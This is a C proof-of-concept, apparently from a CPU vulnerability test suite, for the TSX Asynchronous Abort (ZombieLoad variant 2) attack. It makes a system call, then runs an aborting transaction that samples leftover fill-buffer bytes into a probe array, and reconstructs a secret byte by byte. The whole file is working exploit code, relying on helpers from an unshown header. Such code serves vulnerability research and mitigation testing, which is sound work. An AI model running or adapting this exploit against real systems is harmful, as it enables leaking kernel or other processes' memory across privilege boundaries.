/*
 * TSX asynchronous abort (Schwarz et al., "ZombieLoad", 2019, variant 2; van Schaik et al., "RIDL",
 * addendum): loads that have not completed when their transaction aborts asynchronously receive bytes
 * of the fill buffers, as faulting ones do elsewhere. What is loaded is the process's own; its line is
 * flushed, so that the loads wait.
 */
#include "buffers.h"

#include <cpuid.h>

enum { RTM = 1 << 11 };

static const uint8_t *own;

static int has_transactions(void)
{
	unsigned int eax, ebx, ecx, edx;

	return __get_cpuid_count(7, 0, &eax, &ebx, &ecx, &edx) && ebx & RTM;
}

/* A system call, then a transaction that aborts. */
static void call_and_sample(long number, long first, const void *second, long third)
{
	register const uint8_t *address_register __asm__("r9") = own + place;
	register const uint8_t *probe_register __asm__("r8") = probe;
	register uint64_t known_register __asm__("r10") = known;

	__asm__ volatile(
		"mov %[number], %%rax\n\t"
		"syscall\n\t"
		"clflush (%[address])\n\t"
		"xbegin 9f\n\t"
		TWELVE_TIMES(SAMPLE_BUFFER)
		"xend\n\t"
		"9:\n\t"
		: "+d"(third)
		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
		: "rax", "rcx", "r11", "memory", "cc");
}

static int sample(int index)
{
	prepare_use(index);
	aim(index);
	use_secret_by(call_and_sample, index);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	static uint8_t page[PAGE_BYTES + LINE_BYTES] __attribute__((aligned(PAGE_BYTES)));

	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	if (!has_transactions()) {
		printf("unsupported the processor has no transactions, or the kernel has switched them off\n");
		return 0;
	}
	open_secret();
	calibrate();
	prepare_eviction();
	probe = own_probe();
	memset(elsewhere, 1, sizeof(elsewhere));
	memset(page, 1, sizeof(page));
	own = page;
	recover_in_order(sample, 600);
	return 0;
}
